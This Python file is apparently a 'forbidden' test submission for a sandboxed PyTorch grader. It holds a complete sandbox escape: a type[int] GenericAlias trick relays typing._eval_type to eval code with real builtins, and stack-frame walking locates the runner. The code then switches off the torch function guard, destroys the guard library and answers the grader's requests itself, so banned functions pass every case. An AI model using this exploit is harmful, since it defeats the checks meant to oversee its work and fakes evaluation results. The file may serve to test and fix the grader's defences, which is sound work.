"""Forbidden (gets accepted today): type[int] is GuardedType.__class_getitem__'s
`type[item]`, a types.GenericAlias of the real built-in type; calling it calls the real type, so the
class is built with no check of its namespace and never passes own_class (its bases are not checked
for relays), yet it is judged the file's own by its __module__ (candidate_submission, the caller's).
An "own" subclass of typing's generic alias then relays the private name _eval_type to the typing
module; typing._eval_type evals a ForwardRef's text with real builtins. With sys and the real
getattr in hand, the file switches the guard off and answers the channel itself with
F.gelu/softmax/layer_norm.

Today: `python -m grader FILE --json` -> verdict accepted, "all 46 cases passed"."""

import math
import typing

import torch

Relay = type[int]("Relay", (type(typing.List[int]),), {}, _root=True)  # the real type: no own_class, no checks
evaluate = Relay(typing, (), name="Relay")._eval_type  # not found on the "own" instance: relayed to typing
found = []
evaluate(typing.ForwardRef("(found.append((__import__('sys'), getattr)), int)[1]"), {}, {"found": found})
system, real_getattr = found.pop()  # a value from a call: never checked
modules = real_getattr(system, "modules")
get_frame = real_getattr(system, "_getframe")
exit_now = real_getattr(modules.get("os"), "_exit")
functional = modules.get("torch.nn.functional")
gelu, softmax, layer_norm = (real_getattr(functional, name) for name in ("gelu", "softmax", "layer_norm"))


def mlm_forward_tied(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads):
    x = w_emb[input_ids] + pos_embed
    n, t, d = x.shape
    d_head = d // num_heads
    for w_q, w_k, w_v, w_o, w_mlp1, w_mlp2 in blocks_weights:
        h = layer_norm(x, (d,), eps=1e-5)
        q = (h @ w_q).reshape(n, t, num_heads, d_head).transpose(1, 2)
        k = (h @ w_k).reshape(n, t, num_heads, d_head).transpose(1, 2)
        v = (h @ w_v).reshape(n, t, num_heads, d_head).transpose(1, 2)
        weights = softmax(q @ k.transpose(-2, -1) / math.sqrt(d_head), dim=-1)
        x = x + (weights @ v).transpose(1, 2).reshape(n, t, d) @ w_o
        x = x + gelu(layer_norm(x, (d,), eps=1e-5) @ w_mlp1, approximate="tanh") @ w_mlp2
    return x[mask_indicator > 0.5] @ w_emb.T


# Take over: find the runner's serve() frame, switch the guard off and answer the grader ourselves.
depth = 0
while True:
    scope = real_getattr(get_frame(depth), "f_locals")
    if "results" in scope and "requests" in scope and "guard" in scope:
        break
    depth += 1
real_getattr(real_getattr(torch, "_C"), "_pop_torch_function_stack")()
real_getattr(real_getattr(scope.get("guard"), "library"), "_destroy")()
requests, results, write_frame, read_frame = (scope.get(name) for name in ("requests", "results", "write_frame", "read_frame"))
run, submission = scope.get("run"), scope.get("submission")
write_frame(results, {"kind": "ready"})
while True:
    try:
        header, tensors = read_frame(requests)
    except EOFError:
        exit_now(0)
    if header.get("kind") == "finish":
        write_frame(results, {"kind": "finished"})
        exit_now(0)
    if header.get("kind") != "case":
        exit_now(0)
    reply, sent = run(mlm_forward_tied, header, tensors, submission)
    write_frame(results, reply, sent)
